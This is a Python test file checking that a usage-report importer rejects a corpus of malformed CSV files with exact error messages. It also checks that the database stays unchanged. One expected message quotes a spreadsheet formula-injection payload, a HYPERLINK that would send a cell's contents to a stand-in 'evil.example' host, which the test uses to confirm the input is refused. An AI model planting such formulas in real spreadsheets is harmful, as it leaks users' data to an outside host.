"""The bad-input corpus: every file gets its own message and leaves the database byte-for-byte unchanged,
through the library and through the CLI (exit 2, one line)."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from pilot import cli, demo, store
from pilot.core.errors import PilotError
from pilot.intake import usage
from pilot.setup.pilots import get_pilot

from .conftest import ROOT, snapshot

CORPUS = ROOT / "tests" / "bad_input"
SETTING = '"Display concealed user, group, and site names in all reports"'
MESSAGES = {
    "concealed_upns.csv": (
        "has concealed user names (32-character codes instead of emails), so no row can be matched "
        f"to the sample group. A Microsoft 365 global admin can turn off {SETTING}"
    ),
    "period_30_days.csv": "covers 30 days (Report Period): export the 7-day report (D7)",
    "workbook_really_xlsx.csv": "is an Excel workbook or a zip archive, not CSV: save it as CSV UTF-8",
    "compressed.csv.gz": "is compressed (gzip): unpack it and upload the CSV",
    "empty.csv": "empty.csv is empty",
    "whitespace_only.csv": "whitespace_only.csv is empty",
    "header_only.csv": "has a header but no data rows",
    "binary_nul.csv": "holds NUL bytes: binary, or UTF-16 without its BOM; save it as CSV UTF-8",
    "random_bytes.csv": "is not text in UTF-8 or UTF-16 (byte 0): save it as CSV UTF-8",
    "utf16_without_bom.csv": "holds NUL bytes: binary, or UTF-16 without its BOM",
    "cp1252_names.csv": "is not text in UTF-8 or UTF-16 (byte 207): save it as CSV UTF-8",
    "same_person_twice.csv": "the same person appears twice (kira.garcia@example.com on lines 2, 322)",
    "negative_count.csv": "column 'Posted Count' line 5: '-3' is not a count (a whole number, 0 or more)",
    "fractional_count.csv": "column 'Read Count' line 7: '3.5' is not a count",
    "text_count.csv": "column 'Liked Count' line 9: 'lots' is not a count",
    "exponent_count.csv": "column 'Posted Count' line 4: '1e9' is not a count",
    "arabic_digits_count.csv": "column 'Posted Count' line 6: '١٢' is not a count",
    "formula_in_count.csv": "line 3: '=HYPERLINK(\"https://evil.example/?x=\"&A2' is not a count",
    "missing_email_column.csv": "is not a known format. Known formats: Microsoft Teams user activity",
    "unknown_format.csv": (
        "Header seen: Report Refresh Date,User Principal Name,Is Deleted,Deleted Date,Last Activity Date,"
        "Viewed Or Edited File Count"
    ),
    "slack_without_email.csv": "is a Slack member analytics export without the Email column",
    "Desk Member Analytics Prior 30 Days - Nov 22, 2026.csv": "covers 30 days: export the last 7 days",
    "slack_without_dates_in_name.csv": "does not say its week: give the week it covers",
    "very_long_line.csv": "the first line is 2,000,000 characters long: not a report",
    "ragged_long_row.csv": "the header has 11 fields but line 5 has 12",
    "ragged_short_row.csv": "the header has 11 fields but line 7 has 9",
    "refresh_date_not_a_date.csv": "Report Refresh Date 'yesterday' is not a date like 2026-11-22",
    "two_refresh_dates.csv": "holds several Report Refresh Dates: 2026-10-18, 2026-10-25",
    "generic_bad_dates.csv": "column 'week' lines 2, 3, 4: '03/04/2026' is not a date like 2026-09-07",
    "generic_bad_channel.csv": "column 'channel' line 2: 'email' is not tool or replaced",
    "generic_same_person_twice.csv": "the same person appears twice (kira.garcia@example.com on lines 2, 3)",
}


def test_the_corpus_is_complete():
    files = sorted(p.name for p in CORPUS.iterdir() if p.suffix != ".py" and p.is_file())
    assert files == sorted(MESSAGES)
    assert len(files) >= 20


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """The demo pilot with all its usage, built once; each test works on a copy."""
    path = tmp_path_factory.mktemp("bad") / "template.db"
    db = store.connect(path)
    demo.load(db)
    db.close()
    return path


@pytest.fixture
def copy(template: Path, tmp_path: Path) -> Path:
    path = tmp_path / "pilot.db"
    shutil.copy(template, path)
    return path


@pytest.mark.parametrize("name", sorted(MESSAGES))
def test_library_refuses_and_stores_nothing(name: str, copy: Path):
    before_bytes, before = copy.read_bytes(), snapshot(copy)
    db = store.connect(copy)
    with pytest.raises(PilotError) as e:
        usage.import_file(db, get_pilot(db, "demo"), CORPUS / name)
    db.close()
    assert MESSAGES[name] in str(e.value)
    assert snapshot(copy) == before
    assert copy.read_bytes() == before_bytes


@pytest.mark.parametrize("name", sorted(MESSAGES))
def test_cli_refuses_with_one_line_and_exit_2(name: str, copy: Path, capsys):
    before_bytes = copy.read_bytes()
    code = cli.main(["import", "--db", str(copy), "--pilot", "demo", str(CORPUS / name)])
    out, err = capsys.readouterr()
    assert (code, out) == (2, "")
    assert err.startswith("error: ") and err.count("\n") == 1
    assert MESSAGES[name] in err
    assert copy.read_bytes() == before_bytes


def test_cli_refusal_in_a_real_process(copy: Path):
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "pilot",
            "import",
            "--db",
            str(copy),
            "--pilot",
            "demo",
            str(CORPUS / "concealed_upns.csv"),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert run.returncode == 2 and run.stdout == ""
    assert (
        run.stderr.startswith("error: concealed_upns.csv has concealed user names") and SETTING in run.stderr
    )
    assert run.stderr.count("\n") == 1


def test_cli_bad_week_and_missing_file(copy: Path, capsys):
    assert (
        cli.main(
            ["import", "--db", str(copy), "--pilot", "demo", "--week", "soon", str(CORPUS / "empty.csv")]
        )
        == 2
    )
    assert capsys.readouterr().err == "error: --week must be a date like 2026-11-16, not 'soon'\n"
    assert cli.main(["import", "--db", str(copy), "--pilot", "demo", str(CORPUS / "nope.csv")]) == 2
    assert capsys.readouterr().err == f"error: No such file: {CORPUS / 'nope.csv'}\n"
